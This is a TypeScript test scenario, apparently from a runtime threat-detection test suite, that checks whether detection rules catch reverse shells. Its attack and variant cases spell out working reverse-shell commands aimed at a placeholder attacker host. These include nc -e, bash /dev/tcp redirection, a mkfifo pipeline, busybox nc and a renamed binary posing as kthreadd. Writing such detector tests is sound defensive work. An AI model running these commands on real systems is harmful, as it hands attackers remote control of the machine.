// D18: reverse shells. The attacker's listener on the network's remote end
// (c2, ports 4444 and 9001) types a command into each shell it catches and
// leaves.
import { applet } from '../lib/check';
import { web } from './d17-server-shell';
import { NET } from '../lib/net-plan';
import type { Scenario } from '../lib/types';

const CMD = 'Reverse shell command';
const DUP = 'Network socket duplicated onto standard stream';

export const d18: Scenario = {
  row: 'D18',
  title: 'Reverse shells: nc -e, bash -i >& /dev/tcp/..., or a socket duplicated onto stdin/stdout/stderr',
  rules: [CMD, DUP],
  mitre: 'T1059',
  category: 'execution',
  cases: [
    {
      kind: 'attack',
      name: `nc ${NET.c2} 4444 -e /bin/sh`,
      script: `nc ${NET.c2} 4444 -e /bin/sh`,
      expect: [
        { rule: CMD, proc: applet('nc'), cmdline: /^nc \S+ 4444 -e \/bin\/sh$/ },
        { rule: DUP, proc: 'nc', fields: { 'evt.arg.newfd': 0, 'fd.sockfamily': 'AF_INET' } },
      ],
    },
    {
      kind: 'variant',
      name: 'bash -i >& /dev/tcp/HOST/PORT 0>&1',
      evasion: ['another shell'],
      script: `bash -c 'bash -i >& /dev/tcp/${NET.c2}/4444 0>&1'`,
      expect: [
        { rule: CMD, proc: 'bash', cmdline: /\/dev\/tcp\// },
        { rule: DUP, proc: 'bash', pname: /^(sh|bash)$/ },
      ],
    },
    {
      kind: 'variant',
      name: 'the mkfifo pipeline: cat fifo | sh -i | nc HOST PORT > fifo',
      evasion: ['another tool'],
      script: `sh -c 'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc ${NET.c2} 9001 > /tmp/f'`,
      expect: [{ rule: CMD, proc: applet('sh'), cmdline: /^sh -c rm -f \/tmp\/f; mkfifo/ }],
    },
    {
      kind: 'variant',
      name: 'busybox nc by applet name',
      evasion: ['busybox applet'],
      script: `busybox nc ${NET.c2} 9001 -e sh`,
      expect: [{ rule: CMD, proc: applet('busybox'), cmdline: /^busybox nc / }],
    },
    {
      kind: 'variant',
      name: 'a compiled reverse shell renamed kthreadd (no telltale command line)',
      evasion: ['renamed binary', 'raw syscall'],
      script: `cp /usr/local/bin/attackops /tmp/kthreadd && /tmp/kthreadd revshell ${NET.c2} 4444 /bin/sh`,
      expect: [{ rule: DUP, proc: 'kthreadd', fields: { 'evt.arg.newfd': 0 } }],
    },
    {
      kind: 'benign',
      name: 'busybox httpd serves a page (it puts each accepted connection on stdin and stdout)',
      script: web('/index.html', 8085),
      marker: 'syscall',
    },
    {
      kind: 'benign',
      name: 'nc used as an HTTP client (no -e)',
      script: `printf 'GET / HTTP/1.0\\r\\n\\r\\n' | nc -w 2 ${NET.web} 80 > /dev/null`,
      marker: 'syscall',
    },
  ],
};
